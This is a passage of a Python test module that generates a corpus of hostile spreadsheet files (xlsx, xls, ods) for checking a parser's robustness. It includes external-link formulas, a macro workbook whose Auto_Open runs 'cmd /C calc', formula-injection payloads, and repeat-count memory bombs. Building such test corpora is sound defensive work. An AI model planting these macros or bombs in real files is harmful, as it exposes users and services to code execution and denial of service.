    sheet = part(XLSX, SHEET).replace(b"</sheetData>", b'<row r="30"><c r="A30" t="str"><f>[1]Feuil1!A1</f>'
                                                       b"<v>DUPONT</v></c></row></sheetData>")
    return repack(XLSX, {"xl/_rels/workbook.xml.rels": rels, SHEET: sheet},
                  add={"xl/externalLinks/externalLink1.xml": link,
                       "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def _macro_workbook() -> bytes:
    content_types = part(XLSX, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Attribute VB_Name = \"Module1\"\r\n" \
          + b"Sub Auto_Open()\r\n Shell \"cmd /C calc\"\r\nEnd Sub\r\n"
    return repack(XLSX, {"[Content_Types].xml": content_types}, add={"xl/vbaProject.bin": vba})


def _many_sheets(count: int) -> bytes:
    workbook = part(XLSX, "xl/workbook.xml")
    start, end = workbook.index(b"<sheets>"), workbook.index(b"</sheets>")
    sheets = b"".join(b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                      b'name="F%d" sheetId="%d" r:id="rId1"/>' % (i, i + 1) for i in range(count))
    return repack(XLSX, {"xl/workbook.xml": workbook[:start] + b"<sheets>" + sheets + workbook[end:]})


def xlsx_specifics() -> Iterator[HostileFile]:
    """Formulas as names, claimed and real far cells, external links, macros, many sheets."""
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    items = {
        "formules_noms": (_formula_cells, tuple(p.strip() for p in FORMULA_PAYLOADS)),
        "dimension_1M_lignes": (partial(_sheet_with, b"", b"A1:XFD1048576"), ()),
        "cellule_XFD1048576": (partial(_sheet_with, far), ()),
        "cellule_apostrophes": (partial(_sheet_with, far.replace(b'"', b"'")), ()),
        "cellule_minuscules": (partial(_sheet_with, far.replace(b"XFD", b"xfd")), ()),
        "cellule_espaces": (partial(_sheet_with, far.replace(b' r="XFD', b' r = "XFD')), ()),
        "cellule_r_double": (partial(_sheet_with, b'<row r="30"><c r="A30" r="XFD1048576"><v>1</v></c></row>'), ()),
        "cellule_r_second": (partial(_sheet_with, b'<row r="30"><c t="n" r="XFD1048576"><v>1</v></c></row>'), ()),
        "cellule_prefixee": (partial(_sheet_with, b'<row r="30"><x:c xmlns:x="http://schemas.openxmlformats.org/'
                                                 b'spreadsheetml/2006/main" r="XFD1048576"><x:v>1</x:v></x:c></row>'), ()),
        "ligne_1048576": (partial(_sheet_with, b'<row r="1048576"><c><v>1</v></c></row>'), ()),
        "colonnes_implicites": (partial(_sheet_with, b'<row r="19999">' + b"<c><v>1</v></c>" * 20_000
                                        + b"</row>"), ()),
        "ref_geante": (partial(_sheet_with, b'<row r="30"><c r="ZZZZ99999999999"><v>1</v></c></row>'), ()),
        "ref_4300_chiffres": (partial(_sheet_with, b'<row r="30"><c r="A' + b"9" * 5000 + b'"><v>1</v></c></row>'), ()),
        "textes_partages_2G": (partial(_shared_strings, 2_000_000_000), ()),
        "textes_partages_negatif": (partial(_shared_strings, -1), ()),
        "lien_externe": (_external_link, ()),
        "macros_xlsm": (_macro_workbook, ()),
        "feuilles_2000": (partial(_many_sheets, 2000), ()),
        "feuille_manquante": (partial(repack, XLSX, drop=(SHEET,)), ()),
        "sans_content_types": (partial(repack, XLSX, drop=("[Content_Types].xml",)), ()),
        "workbook_vide": (partial(repack, XLSX, {"xl/workbook.xml": b""}), ()),
        "feuille_binaire": (partial(repack, XLSX, {SHEET: _seeded(11, 4096)}), ()),
        "classeur_xlsb": (partial(repack, XLSX, add={"xl/workbook.bin": _seeded(12, 512)},
                                  drop=("xl/workbook.xml",)), ()),
    }
    for name, (build, payloads) in items.items():
        suffix = ".xlsm" if name == "macros_xlsm" else ".xlsx"
        yield HostileFile(f"{name}{suffix}", "xlsx", build, payloads)


def _xls_patched(record: int, nth: int, fmt: str, *values: int, at_end: bool = False,
                 in_sheet: bool = True) -> bytes:
    """Rewrite the first (or last) fields of the ``nth`` record of a type in the golden .xls.

    The golden workbook stream is one run of sectors from offset 512, so a record found by
    walking the stream sits at the same place plus 512 in the file.
    """
    data = bytearray(golden(XLS))
    offset, seen, sheet = 512, 0, False
    while True:
        typ, size = struct.unpack_from("<HH", data, offset)
        sheet = sheet or (typ == 0x0809 and offset > 512)  # the sheet's own BOF
        if sheet == in_sheet and typ == record:
            if seen == nth:
                where = offset + 4 + (size - struct.calcsize(fmt) if at_end else 0)
                struct.pack_into(fmt, data, where, *values)
                return bytes(data)
            seen += 1
        offset += 4 + size


def xls_specifics() -> Iterator[HostileFile]:
    """Legacy .xls whose cells or DIMENSIONS record reach far (calamine aborts on them)."""
    items = {
        "cellule_colonne_16383": partial(_xls_patched, 0x027E, 0, "<HH", 65535, 16383),
        "cellule_colonne_65535": partial(_xls_patched, 0x027E, 0, "<HH", 2, 65535),
        "cellule_ligne_65535": partial(_xls_patched, 0x027E, 0, "<HH", 65535, 3),
        "mulrk_lointain": partial(_xls_patched, 0x00BD, 0, "<HH", 4, 65000),
        "mulrk_fin_lointaine": partial(_xls_patched, 0x00BD, 0, "<H", 65535, at_end=True),
        "dimensions_1M_lignes": partial(_xls_patched, 0x0200, 0, "<IIHH", 0, 0x100000, 0, 0x4000),
        "dimensions_inversees": partial(_xls_patched, 0x0200, 0, "<IIHH", 50, 10, 0, 5),
        "feuille_hors_flux": partial(_xls_patched, 0x0085, 0, "<I", 0xFFFFFF00, in_sheet=False),
    }
    for name, build in items.items():
        yield HostileFile(f"{name}.xls", "xls", build)


# --- ODS specifics ---

_ODS_NS = (b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
_ODS_MANIFEST = (b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                 b'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                 b'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                 b'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')


def ods_with_rows(rows: bytes) -> bytes:
    """Return a minimal .ods whose only sheet holds ``rows`` (table:table-row elements)."""
    content = (b'<?xml version="1.0" encoding="UTF-8"?><office:document-content ' + _ODS_NS
               + b' office:version="1.2"><office:body><office:spreadsheet><table:table table:name="F">' + rows
               + b"</table:table></office:spreadsheet></office:body></office:document-content>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", _ODS_MANIFEST)
        archive.writestr("content.xml", content)
    return out.getvalue()


def _ods_cell(repeat: int, body: bytes, kind: bytes = b"string", value: bytes = b"") -> bytes:
    return (b'<table:table-cell table:number-columns-repeated="%d" office:value-type="%s"%s>' % (repeat, kind, value)
            + body + b"</table:table-cell>")


def ods_repeat_bomb(*, text: bool, rows: int = 1000, columns: int = 1000) -> bytes:
    """Return issue #12's .ods: one row repeated, one cell repeated (a 10 000-character text, or a number)."""
    cell = (_ods_cell(columns, b"<text:p>" + b"A" * 10_000 + b"</text:p>") if text
            else _ods_cell(16_384, b"<text:p>7</text:p>", b"float", b' office:value="7"'))
    return ods_with_rows(b'<table:table-row table:number-rows-repeated="%d">' % rows + cell + b"</table:table-row>")


def ods_specifics() -> Iterator[HostileFile]:
    """LibreOffice sheets whose repeat counts expand past memory (calamine aborts on them)."""
    far_row = (b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell/></table:table-row>'
               b"<table:table-row>" + _ods_cell(1, b"<text:p>DUPONT</text:p>") + b"</table:table-row>")
    items = {
        "texte_10000_x_1000_x_1000": partial(ods_repeat_bomb, text=True),
        "nombres_1000_x_16384": partial(ods_repeat_bomb, text=False),
        "texte_400_colonnes": partial(ods_repeat_bomb, text=True, rows=2000, columns=400),
        "espaces_repetes": partial(ods_with_rows, b"<table:table-row>" + _ods_cell(
            1, b'<text:p>a<text:s text:c="2000000000"/></text:p>') + b"</table:table-row>"),
        "ligne_apres_un_million_de_vides": partial(ods_with_rows, far_row),
        "repetition_non_numerique": partial(ods_with_rows, b'<table:table-row table:number-rows-repeated="1e9">'
                                            + _ods_cell(3, b"<text:p>x</text:p>") + b"</table:table-row>"),
    }
    for name, build in items.items():
        yield HostileFile(f"{name}.ods", "ods", build)


FAMILIES = (truncated, renamed, tiny, zips, xml_attacks, pdfs, csvs, xlsx_specifics, xls_specifics, ods_specifics,
            mutated)


def hostile_corpus() -> Iterator[HostileFile]:
    """Yield the whole corpus, family after family, in a fixed order."""
    for family in FAMILIES:
        yield from family()


def composition() -> Counter:
    """Count the corpus's files by family."""
    return Counter(item.family for item in hostile_corpus())


def fingerprint() -> str:
    """Return a short digest of every file's name and bytes (the corpus must not drift)."""
    digest = zlib.crc32(b"")
    for item in hostile_corpus():
        digest = zlib.crc32(item.name.encode() + item.data(), digest)
    return base64.b32encode(digest.to_bytes(4, "big")).decode().rstrip("=")


if __name__ == "__main__":
    counts = composition()
    print(f"{sum(counts.values())} fichiers : " + ", ".join(f"{k} {v}" for k, v in counts.items()))
    print(f"empreinte : {fingerprint()}")
